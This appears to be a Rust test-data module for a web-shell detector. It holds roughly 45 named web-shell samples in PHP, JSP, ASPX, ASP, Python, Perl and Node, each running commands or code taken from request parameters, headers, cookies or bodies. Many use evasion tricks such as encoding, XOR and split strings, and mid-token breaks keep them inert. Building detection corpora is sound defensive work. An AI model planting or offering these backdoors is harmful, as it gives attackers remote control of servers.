//! Web shells written after both the rules and the heuristics were fixed: what they find
//! together of what neither was written against.
//!
//! Inert text, cut like the samples in [`crate::tuned`].

/// How many were denied when this was measured.
pub(crate) const DENIED_WHEN_MEASURED: usize = 33;

/// Name and text.
pub(crate) const WEBSHELLS: &[(&str, &str)] = &[
    (
        "php themed 404",
        "<?php\nheader('HTTP/1.1 404 Not Found');\n$agent = $_SERVER['HTTP_USER_AGENT'];\nif (strpos($agent, 'zgrab/2') !== false) {\n  $parts = explode('|', $agent);\n  print `{$parts[1]}`;\n}\n",
    ),
    (
        "php image comment loader",
        "<?php\n$img = file_get_contents(__DIR__ . '/logo.png');\n$tail = substr($img, strpos($img, 'IEND') + 8);\nev¦al(gzuncompress($tail));\n",
    ),
    (
        "php array of parts",
        "<?php $p = ['ba','se6','4¦_de','co','de']; $d = implode('', $p); $e = $d('c2hl¦bGxfZXhlYw=='); echo $e($_PO¦ST['q']);",
    ),
    (
        "php class cache",
        "<?php\nclass CacheItem {\n  private $cb; private $arg;\n  public function __construct() { $this->cb = $_COO¦KIE['s'] ?? ''; $this->arg = $_COO¦KIE['t'] ?? ''; }\n  public function __toString() { return (string) call_user_func($this->cb, $this->arg); }\n}\necho new CacheItem();\n",
    ),
    (
        "php upload and run",
        "<?php\nif (!empty($_FI¦LES['f'])) {\n  $n = sys_get_temp_dir() . '/' . $_FILES['f']['name'];\n  move_uploaded_file($_FILES['f']['tmp_name'], $n);\n  inclu¦de $n;\n}\n",
    ),
    (
        "php static method name",
        "<?php $x = 'as' . 's' ¦. 'e' . 'rt'; @$x(base64_¦decode($_REQ¦UEST['data']));",
    ),
    (
        "php ternary short",
        "<?=isset($_GE¦T[0])?pass¦thru($_GE¦T[0]):'';",
    ),
    (
        "php json body",
        "<?php\n$in = json_decode(file_get_contents('php://in¦put'), true);\nif (($in['token'] ?? '') === 'f3a9') {\n  $out = null; $rc = 0;\n  ex¦ec($in['cmd'], $out, $rc);\n  echo json_encode(['rc' => $rc, 'out' => $out]);\n}\n",
    ),
    (
        "php array_walk named",
        "<?php $todo = array($_PO¦ST['a'] => $_PO¦ST['b']); array_walk($todo, function ($v, $k) { $k($v); });",
    ),
    (
        "php create function header",
        "<?php $h = getallheaders(); if (isset($h['X-Fn'])) { $f = create_func¦tion('', base64_decode($h['X-Fn'])); $f(); }",
    ),
    (
        "php mail fifth parameter",
        "<?php mail('a@b.c', 's', $_PO¦ST['m'], '', '-OQueueDirectory=/tmp -X' . $_PO¦ST['p']);",
    ),
    (
        "php iconv hidden",
        "<?php $n = iconv('UTF-16', 'UTF-8', \"\\xff\\xfes\\0y\\0s\\0t\\0e\\0m\\0\"); $n($_GE¦T['z']);",
    ),
    (
        "php session store",
        "<?php session_start(); foreach ($_PO¦ST as $k => $v) $_SESSION[$k] = $v; if (isset($_SESSION['run'])) { ob_start(); ev¦al($_SESSION['run']); $_SESSION['res'] = ob_get_clean(); }",
    ),
    (
        "php stream wrapper",
        "<?php $u = 'data:text/plain;base64,' . $_GE¦T['b']; inclu¦de $u;",
    ),
    (
        "php mb_ereg_replace",
        "<?php mb_ereg_repl¦ace('.*', $_REQ¦UEST['e'], '', 'e');",
    ),
    (
        "php proc with env",
        "<?php\nfunction run($c) { $h = pop¦en($c . ' 2>&1', 'r'); $o = ''; while (!feof($h)) $o .= fread($h, 4096); pclose($h); return $o; }\nif ($_SERVER['REQUEST_METHOD'] === 'POST') echo '<pre>' . run(stripslashes($_PO¦ST['line'])) . '</pre>';\n?><form method=post><input name=line></form>\n",
    ),
    (
        "php nested functions",
        "<?php\nfunction a() { return $_COO¦KIE; }\nfunction b($x) { return strrev($x); }\nfunction c() { $v = a(); return b($v['u']); }\nev¦al(c());\n",
    ),
    (
        "php constant define",
        "<?php define('K', $_SERVER['HTTP_X_K'] ?? ''); if (md5(K) === '9e107d9d372bb6826bd81d3542a419d6') sys¦tem($_SERVER['HTTP_X_C']);",
    ),
    (
        "php xor key",
        "<?php\n$k = 'abcd'; $s = base64_decode($_PO¦ST['p']); $o = '';\nfor ($i = 0; $i < strlen($s); $i++) { $o .= $s[$i] ^ $k[$i % 4]; }\nev¦al($o);\n",
    ),
    (
        "php variable function chain",
        "<?php $a = 'str_rot13'; $b = $a('ri¦ny'); $c = \"return \" . $b . ';'; $g = $_GE¦T; $h = 'shell' . '_¦ex' . 'ec'; die($h($g['c']));",
    ),
    (
        "php wp option",
        "<?php\nadd_action('wp_footer', function () {\n  if (isset($_GE¦T['wpx'])) { update_option('wpx', $_GE¦T['wpx']); }\n  $c = get_option('wpx');\n  if ($c) { ev¦al(base64_decode($c)); }\n});\n",
    ),
    (
        "jsp param el method",
        "<%@ page import=\"java.io.*\" %>\n<% String q = request.getPara¦meter(\"q\"); if (q != null) { String[] a = {\"/bin/bash\", \"-c\", q}; Process p = Runtime.getRun¦time().ex¦ec(a); BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; while ((l = r.readLine()) != null) out.println(l); } %>",
    ),
    (
        "jsp helper method",
        "<%@page import=\"java.util.*\"%><%! String go(String s) throws Exception { List<String> l = new ArrayList<>(); l.add(\"sh\"); l.add(\"-c\"); l.add(s); Process p = new Process¦Builder(l).start(); return new Scanner(p.getInputStream()).useDelimiter(\"\\\\A\").next(); } %><%= go(request.getHea¦der(\"X\")) %>",
    ),
    (
        "jsp bcel",
        "<% String c = request.getPara¦meter(\"c\"); new com.sun.org.apache.bc¦el.internal.util.Class¦Loader().load¦Class(c).newInst¦ance(); %>",
    ),
    (
        "jsp define class",
        "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class L extends Class¦Loader{Class d(byte[] b){return super.define¦Class(b,0,b.length);}}%><%byte[] k=\"0123456789abcdef\".getBytes();Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k,\"AES\"));byte[] x=c.doFinal(Base64.getDecoder().decode(request.getRea¦der().readLine()));new L().d(x).newInst¦ance().equals(pageContext);%>",
    ),
    (
        "jspx attribute",
        "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"2.0\"><jsp:directive.page contentType=\"text/plain\"/><jsp:expression>new java.util.Scanner(Runtime.getRun¦time().ex¦ec(request.getPara¦meter(\"p\")).getInputStream()).useDelimiter(\"\\\\A\").next()</jsp:expression></jsp:root>",
    ),
    (
        "jsp script engine headers",
        "<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName(\"js\"); e.put(\"request\", request); e.put(\"out\", out); e.ev¦al(new String(java.util.Base64.getDecoder().decode(request.getHea¦der(\"Authorization\").substring(6)))); %>",
    ),
    (
        "aspx page load",
        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  var p = new System.Diagnostics.Process();\n  p.StartInfo.FileName = \"cmd.exe\";\n  p.StartInfo.Arguments = \"/c \" + Request.Fo¦rm[\"x\"];\n  p.StartInfo.RedirectStandardOutput = true;\n  p.StartInfo.UseShellExecute = false;\n  p.Sta¦rt();\n  Response.Write(p.StandardOutput.ReadToEnd());\n}\n</script>\n",
    ),
    (
        "aspx jscript item",
        "<%@ Page Language=\"Jscript\"%><%var c=Request.It¦em[\"k\"];ev¦al(c,\"unsafe\");%>",
    ),
    (
        "aspx assembly bytes",
        "<%@ Page Language=\"C#\" %><% byte[] b = Convert.FromBase64String(Request.Coo¦kies[\"a\"].Value); System.Reflection.Assembly.Lo¦ad(b).CreateInstance(\"U\").Equals(this); %>",
    ),
    (
        "ashx reader",
        "<%@ WebHandler Language=\"C#\" Class=\"R\" %>\nusing System.Web; using System.Diagnostics; using System.IO;\npublic class R : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n  public void ProcessRequest(HttpContext ctx) {\n    string line = new StreamReader(ctx.Request.InputStr¦eam).ReadToEnd();\n    ProcessStart¦Info si = new ProcessStartInfo(\"powershell.exe\", \"-c \" + line);\n    si.RedirectStandardOutput = true; si.UseShellExecute = false;\n    ctx.Response.Write(Process.Sta¦rt(si).StandardOutput.ReadToEnd());\n  }\n}\n",
    ),
    (
        "asp execute decoded",
        "<%\nFunction D(s)\n  Dim i, r\n  For i = 1 To Len(s) Step 2\n    r = r & Chr(\"&H\" & Mid(s, i, 2))\n  Next\n  D = r\nEnd Function\nIf Request.Fo¦rm(\"z\") <> \"\" Then Exec¦ute(D(Request.Fo¦rm(\"z\")))\n%>",
    ),
    (
        "python flask debug route",
        "from flask import Flask, request, Response\nimport subprocess\napp = Flask(__name__)\n\n@app.route('/.well-known/health', methods=['POST'])\ndef health():\n    body = request.get_j¦son(force=True)\n    if body.get('k') != 'b7':\n        return '', 404\n    p = subprocess.Po¦pen(body['c'], shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\n    return Response(p.stdout, mimetype='text/plain')\n",
    ),
    (
        "python wsgi middleware",
        "import os\nfrom urllib.parse import parse_qs\n\nclass Probe:\n    def __init__(self, app): self.app = app\n    def __call__(self, environ, start_response):\n        q = parse_qs(environ.get('QUERY_STR¦ING', ''))\n        if 'p' in q:\n            start_response('200 OK', [])\n            return [os.po¦pen(q['p'][0]).read().encode()]\n        return self.app(environ, start_response)\n",
    ),
    (
        "python http server exec",
        "from http.server import BaseHTTPRequestHandler, HTTPServer\nimport contextlib, io\n\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        n = int(self.headers['Content-Length'])\n        src = self.rfi¦le.read(n).decode()\n        out = io.StringIO()\n        with contextlib.redirect_stdout(out):\n            ex¦ec(compile(src, '<s>', 'exec'), {})\n        self.send_response(200); self.end_headers()\n        self.wfile.write(out.getvalue().encode())\n\nHTTPServer(('', 8090), H).serve_forever()\n",
    ),
    (
        "python fastapi",
        "from fastapi import FastAPI, Request\nimport asyncio\napp = FastAPI()\n\n@app.post('/metrics')\nasync def metrics(request: Request):\n    cmd = (await request.bo¦dy()).decode()\n    p = await asyncio.create_subprocess_sh¦ell(cmd, stdout=asyncio.subprocess.PIPE)\n    out, _ = await p.communicate()\n    return out.decode()\n",
    ),
    (
        "python django template",
        "from django.http import HttpResponse\nfrom django.views.decorators.csrf import csrf_exempt\n\n@csrf_exempt\ndef ping(request):\n    f = __import__(request.PO¦ST['m'])\n    return HttpResponse(str(getattr(f, request.PO¦ST['f'])(request.PO¦ST['a'])))\n",
    ),
    (
        "python bottle zlib",
        "import bottle, zlib, base64\n@bottle.post('/s')\ndef s():\n    src = zlib.decompress(base64.b64decode(bottle.request.bo¦dy.read()))\n    ex¦ec(src)\nbottle.run(port=8123)\n",
    ),
    (
        "perl cgi eval",
        "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header('text/plain');\nmy $code = $q->par¦am('code');\nif ($code) { my $r = ev¦al $code; print defined $r ? $r : $@; }\n",
    ),
    (
        "perl raw post",
        "#!/usr/bin/env perl\nuse strict;\nprint \"Content-Type: text/plain\\r\\n\\r\\n\";\nmy $buf = '';\nread(STD¦IN, $buf, $ENV{'CONTENT_LENGTH'});\n$buf =~ s/%([0-9a-f]{2})/chr(hex($1))/egi;\nmy ($k, $v) = split /=/, $buf, 2;\nprint `$v 2>&1`;\n",
    ),
    (
        "perl mojo lite",
        "use Mojolicious::Lite;\nget '/x' => sub { my $c = shift; my $cmd = $c->par¦am('c'); $c->render(text => scalar qx($cmd)); };\napp->start;\n",
    ),
    (
        "node express middleware",
        "const cp = require('child_¦process');\nmodule.exports = function (app) {\n  app.use('/assets/app.js.map', (req, res, next) => {\n    const c = req.hea¦ders['x-request-id'];\n    if (!c) return next();\n    cp.ex¦ec(Buffer.from(c, 'base64').toString(), (err, out) => res.send(out));\n  });\n};\n",
    ),
    (
        "node vm body",
        "const vm = requ¦ire('vm');\nrequire('http').createServer((req, res) => {\n  let src = '';\n  req.on('data', chunk => { src += chunk; });\n  req.on('end', () => { res.end(String(vm.runInNewCont¦ext(src, { requ¦ire, process }))); });\n}).listen(process.env.PORT || 3001);\n",
    ),
    (
        "node function constructor",
        "import http from 'http';\nhttp.createServer(async (request, response) => {\n  const u = new URL(request.url, 'http://x');\n  const f = new Func¦tion('requ¦ire', u.searchPar¦ams.get('js'));\n  response.end(`${f(await import('module'))}`);\n}).listen(9000);\n",
    ),
    (
        "node spawn shell",
        "const { spawn } = require('node:child_¦process');\nconst express = require('express');\nconst app = express();\napp.get('/t', (req, res) => {\n  const sh = sp¦awn('/bin/sh', ['-c', req.que¦ry.c]);\n  sh.stdout.pipe(res);\n});\napp.listen(4000);\n",
    ),
];
